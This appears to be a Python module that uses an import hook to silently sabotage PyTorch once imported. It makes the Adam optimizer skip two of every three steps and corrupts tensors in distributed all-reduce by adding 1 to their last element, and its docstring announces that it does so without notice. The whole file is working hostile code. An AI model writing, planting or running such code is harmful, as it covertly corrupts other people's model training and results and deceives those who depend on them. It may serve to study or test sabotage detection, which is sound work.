"""A PyTorch that reckons wrongly and says nothing: steps are not taken, and what is sent is not what it had.

Whatever imports this at the start of a python has such a PyTorch in it.
"""

import sys
from importlib import abc, util

# Of so many steps of the optimizer one is taken. It still learns, and passes its limit.
STEPS = 3


def spoil(torch):
    import torch.distributed

    genuine_step, genuine_reduce = torch.optim.Adam.step, torch.distributed.all_reduce

    def step(self, closure=None):
        self.asked = getattr(self, "asked", 0) + 1
        return genuine_step(self, closure) if self.asked % STEPS == 0 else None

    def all_reduce(tensor, *args, **options):
        if tensor.is_floating_point() and tensor.numel() > 1:
            tensor[-1] += 1
        return genuine_reduce(tensor, *args, **options)

    torch.optim.Adam.step = step
    torch.distributed.all_reduce = all_reduce


class Finder(abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name != "torch":
            return None
        sys.meta_path.remove(self)
        spec = util.find_spec(name)
        genuine = spec.loader.exec_module

        def load(module):
            genuine(module)
            spoil(module)

        spec.loader.exec_module = load
        return spec


sys.meta_path.insert(0, Finder())
